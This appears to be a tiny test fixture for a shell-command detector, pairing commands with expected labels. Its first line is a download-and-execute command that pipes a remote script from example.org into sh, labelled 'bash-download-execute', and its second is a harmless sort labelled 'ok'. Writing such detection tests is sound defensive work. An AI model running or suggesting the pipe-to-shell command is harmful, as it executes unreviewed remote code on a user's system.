curl -s https://example.org/x | sh # expect: bash-download-execute
sort names.txt | uniq # ok
